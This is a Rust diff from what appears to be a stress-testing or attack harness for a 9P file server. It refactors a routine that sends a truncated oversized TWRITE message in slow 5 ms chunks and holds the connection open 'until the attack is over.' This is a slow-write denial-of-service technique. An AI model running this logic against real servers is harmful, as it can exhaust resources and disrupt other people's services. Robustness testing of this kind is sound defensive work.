@@ -313,6 +313,17 @@ impl Mute {
         Ok(bytes)
     }
 
+    /// Sends bytes as the server takes them, and keeps the connection until the attack is over.
+    pub(super) fn send_and_keep(mut self, target: &Target, bytes: &[u8]) -> Result<()> {
+        let mut rest = bytes;
+        while !rest.is_empty() && !target.over() {
+            rest = self.push(rest)?;
+            target.hold(Duration::from_millis(5));
+        }
+        target.keep(|| self.lives());
+        Ok(())
+    }
+
     /// Receives available bytes; returns whether the connection is still open.
     fn take(&mut self, said: &mut Vec<u8>) -> bool {
         match self.0.read_to_end(said) {
@@ -332,20 +343,14 @@ impl Mute {
 }
 
 fn unfinished_write(target: &Target, _number: usize) -> Result<()> {
-    let mut mute = Mute::connect(target.ninep)?;
+    let mute = Mute::connect(target.ninep)?;
     let mut bytes = Vec::new();
     Message::new(&mut bytes, TVERSION, !0).u32(1 << 20).text("9P2000.L");
     bytes.extend((1u32 << 20).to_le_bytes());
     bytes.push(TWRITE);
     let length = bytes.len() + (1 << 20) - 6;
     bytes.resize(length, 7);
-    let mut rest = &bytes[..];
-    while !rest.is_empty() && !target.over() {
-        rest = mute.push(rest)?;
-        target.hold(Duration::from_millis(5));
-    }
-    target.keep(|| mute.lives());
-    Ok(())
+    mute.send_and_keep(target, &bytes)
 }
 
 fn unread(target: &Target, request: &[u8]) -> Result<()> {
